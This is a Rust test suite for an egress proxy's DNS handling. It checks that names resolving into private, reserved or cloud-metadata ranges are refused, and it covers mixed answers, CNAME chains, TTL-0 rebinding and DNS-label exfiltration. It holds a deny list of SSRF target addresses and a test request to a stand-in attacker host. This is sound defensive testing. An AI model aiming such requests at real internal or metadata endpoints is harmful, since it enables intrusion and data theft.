//! Resolution against a real DNS server: every deny-set range, mixed answers, a CNAME to a
//! private name, DNS rebinding with TTL 0, and names the profile refuses are never looked up.

use crate::{Fixture, connect, get};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use testkit::raw;

/// One address inside every range of the mandatory deny-set, and embedded forms of private IPv4.
const DENIED: [&str; 28] = [
    "0.1.2.3",
    "10.1.2.3",
    "100.64.1.1",
    "127.0.0.2",
    "169.254.169.254",
    "172.16.5.4",
    "192.0.0.8",
    "192.168.1.1",
    "198.18.0.1",
    "224.0.0.1",
    "240.0.0.1",
    "255.255.255.255",
    "168.63.129.16",
    "::",
    "::1",
    "fc00::1",
    "fd12:3456::1",
    "fe80::1",
    "fec0::1",
    "ff02::1",
    "::ffff:10.0.0.1",
    "::10.0.0.1",
    "64:ff9b::a00:1",
    "2002:a00:1::1",
    "2001:0:4136:e378:8000:63bf:f5ff:fffe",
    "64:ff9b:1::1",
    "fd00:ec2::254",
    "::ffff:169.254.169.254",
];

async fn dns_fixture() -> Fixture {
    Fixture::start("").await
}

fn set(f: &Fixture, name: &str, addrs: &[IpAddr], ttl: u32) {
    let dns = &f.edge.dns;
    let v4: Vec<Ipv4Addr> = addrs
        .iter()
        .filter_map(|a| match a {
            IpAddr::V4(v) => Some(*v),
            _ => None,
        })
        .collect();
    let v6: Vec<Ipv6Addr> = addrs
        .iter()
        .filter_map(|a| match a {
            IpAddr::V6(v) => Some(*v),
            _ => None,
        })
        .collect();
    dns.set_a(name, &v4, ttl);
    dns.set_aaaa(name, &v6, ttl);
}

#[tokio::test]
async fn a_name_resolving_into_any_denied_range_is_refused() {
    let f = dns_fixture().await;
    let t = f.edge.token("web", "s-ranges");
    for (i, addr) in DENIED.iter().enumerate() {
        let name = format!("r{i}.wild.test");
        set(&f, &name, &[addr.parse().unwrap()], 60);
        let r = raw::send(f.addr(), &connect(&format!("{name}:443"), &t))
            .await
            .unwrap();
        assert_eq!(
            (r.status, r.deny_reason()),
            (403, Some("resolved_address_denied")),
            "{name} → {addr}"
        );
    }
    let audit = f.audited("resolved_address_denied").await;
    assert_eq!(audit.len(), DENIED.len());
    assert!(audit.iter().all(|e| e["dst_addr"].is_string()));
}

#[tokio::test]
async fn the_hosts_own_interface_addresses_are_denied() {
    let f = dns_fixture().await;
    let t = f.edge.token("web", "s-own");
    let own: Vec<IpAddr> = if_addrs::get_if_addrs()
        .unwrap()
        .into_iter()
        .map(|i| i.ip())
        .filter(|ip| !ip.is_loopback())
        .collect();
    for (i, ip) in own.iter().enumerate() {
        let name = format!("own{i}.wild.test");
        set(&f, &name, &[*ip], 60);
        let r = raw::send(f.addr(), &connect(&format!("{name}:443"), &t))
            .await
            .unwrap();
        assert_eq!(r.deny_reason(), Some("resolved_address_denied"), "{ip}");
    }
}

#[tokio::test]
async fn mixed_public_and_private_answers_are_refused_as_a_whole() {
    let f = dns_fixture().await;
    let t = f.edge.token("web", "s-mixed");
    set(
        &f,
        "mixed.wild.test",
        &[
            "93.184.216.34".parse().unwrap(),
            "10.0.0.7".parse().unwrap(),
        ],
        60,
    );
    let r = raw::send(f.addr(), &connect("mixed.wild.test:443", &t))
        .await
        .unwrap();
    assert_eq!(
        (r.status, r.deny_reason()),
        (403, Some("resolved_address_denied"))
    );
}

#[tokio::test]
async fn a_cname_to_a_private_name_is_refused() {
    let f = dns_fixture().await;
    let t = f.edge.token("web", "s-cname");
    let dns = &f.edge.dns;
    dns.set_a(
        "internal.corp.example",
        &["10.20.0.15".parse().unwrap()],
        60,
    );
    dns.set_cname("alias.wild.test", "internal.corp.example", 60);
    let r = raw::send(f.addr(), &connect("alias.wild.test:443", &t))
        .await
        .unwrap();
    assert_eq!(
        (r.status, r.deny_reason()),
        (403, Some("resolved_address_denied"))
    );
}

#[tokio::test]
async fn a_ttl0_name_rebinding_to_a_private_address_is_caught_on_the_next_request() {
    // `rebind.test` may reach exactly 127.0.0.1 (an address rule); its TTL-0 answer then flips.
    let origin = testkit::Origin::start().await;
    let policy = format!(
        "apiVersion: trust-edge/v1\nkind: EgressProfile\nmetadata: {{name: web}}\nspec:\n  destinations:\n    - host: rebind.test\n      ports: [{}]\n      addresses: [127.0.0.1]\n      rung: pass-through\n",
        origin.port()
    );
    let edge = testkit::edge().policy("p.yaml", &policy).start().await;
    let dns = &edge.dns;
    let t = edge.token("web", "s-rebind");
    let url = format!("http://rebind.test:{}/", origin.port());
    dns.set_a("rebind.test", &["127.0.0.1".parse().unwrap()], 0);
    let first = raw::send(edge.handle().proxy_addr(), &get(&url, &t))
        .await
        .unwrap();
    assert_eq!(first.status, 200, "{first:?}");
    dns.set_a("rebind.test", &["10.0.0.1".parse().unwrap()], 0);
    let second = raw::send(edge.handle().proxy_addr(), &get(&url, &t))
        .await
        .unwrap();
    assert_eq!(
        (second.status, second.deny_reason()),
        (403, Some("resolved_address_denied"))
    );
    assert!(
        dns.query_count("rebind.test") >= 2,
        "re-resolved, not served stale"
    );
    assert_eq!(origin.requests(), 1);
}

#[tokio::test]
async fn names_the_profile_refuses_are_never_resolved_and_failures_are_502() {
    let f = dns_fixture().await;
    let t = f.edge.token("web", "s-leak");
    let r = raw::send(
        f.addr(),
        &get("http://exfil-data-in-a-label.attacker.example/", &t),
    )
    .await
    .unwrap();
    assert_eq!(r.deny_reason(), Some("destination_not_allowed"));
    assert_eq!(
        f.edge
            .dns
            .query_count("exfil-data-in-a-label.attacker.example"),
        0
    );
    let missing = raw::send(f.addr(), &connect("nxdomain.wild.test:443", &t))
        .await
        .unwrap();
    assert_eq!(
        (missing.status, missing.deny_reason()),
        (502, Some("resolution_failed"))
    );
}
